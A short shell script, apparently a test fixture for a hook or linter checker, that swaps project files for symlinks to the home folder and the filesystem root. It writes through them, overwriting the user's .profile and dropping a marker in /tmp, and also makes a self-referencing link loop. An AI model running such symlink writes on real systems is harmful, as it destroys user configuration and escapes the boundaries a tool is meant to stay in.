#!/bin/sh
# Puts a link to the home folder where a file of the project was, and writes through it.
ln -sfn "$HOME" link
echo owned >link/.profile
ln -sfn / root
echo owned >root/tmp/hooklint-owned
ln -sfn self self
cat self 2>/dev/null
exit 2
